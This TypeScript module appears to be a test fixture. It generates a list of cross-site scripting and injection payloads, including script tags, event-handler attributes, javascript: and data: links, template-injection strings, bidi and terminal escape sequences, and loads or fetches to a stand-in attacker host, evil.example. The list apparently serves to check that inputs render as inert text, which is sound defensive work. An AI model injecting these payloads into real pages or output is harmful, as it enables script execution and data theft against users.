/** What would run, ask another host or lead astray, were it anything but text. */
const scripts = ['alert(1)', 'fetch("https://evil.example/x")', 'document.body.remove()']
const markup = [
  '<script>RUN</script>',
  '<img src=x onerror=RUN>',
  '<img src=https://evil.example/x>',
  '<svg onload=RUN><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe src="javascript:RUN"></iframe>',
  '<object data="https://evil.example/x"></object>',
  '<link rel=stylesheet href=https://evil.example/x>',
  '<style>@import url(https://evil.example/x)</style>',
  '<form action=https://evil.example/x><button>Send</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/x">',
  '<base href=https://evil.example/>',
  '<details open ontoggle=RUN>',
  '<input autofocus onfocus=RUN>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
  '</title></style></textarea></script><script>RUN</script>',
  '"><b onmouseover=RUN>over</b>',
  "'-RUN-'",
  '{{RUN}} ${RUN} <%= RUN %>',
  '[link](javascript:RUN)',
  '[link](java\tscript:RUN)',
  '[link](data:text/html,<script>RUN</script>)',
  '[link](vbscript:RUN)',
  '<javascript:RUN>',
  '![picture](https://evil.example/x)',
  '![picture](javascript:RUN)',
  '[a]: javascript:RUN "title"\n\n[a]',
  '`<script>RUN</script>`',
  '\u202Etxt.exe <b>RUN</b>\u202C\u2066\u200B',
  '\u001B]8;;https://evil.example/x\u0007RUN\u001B]8;;\u0007 \u001B[31mred',
]

export const hostileTexts: readonly string[] = markup.flatMap((one) =>
  scripts.map((script) => one.replaceAll('RUN', script)),
)

/** One that a short field takes, another each time. */
export function shortHostileText(turn: number, most = 200): string {
  const short = hostileTexts.filter((text) => text.length <= most)
  // there are some of that length, since each row of the list is a line
  return short[turn % short.length] ?? ''
}
